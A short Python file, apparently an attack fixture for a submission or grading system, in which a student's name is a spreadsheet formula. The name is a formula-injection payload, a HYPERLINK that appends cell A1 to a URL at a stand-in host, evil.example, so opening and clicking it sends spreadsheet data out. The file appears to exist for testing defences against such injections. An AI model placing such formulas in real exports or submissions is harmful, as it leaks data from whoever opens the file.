"""Is handed in by a student whose name is a formula for the spreadsheet."""

from attacks.submitting import hand_in, notebook

HONEST = 0.0


def submit(submitted, targets):
    hand_in(submitted, notebook(""), '=HYPERLINK("http:\\\\evil.example?"&A1,"see")')
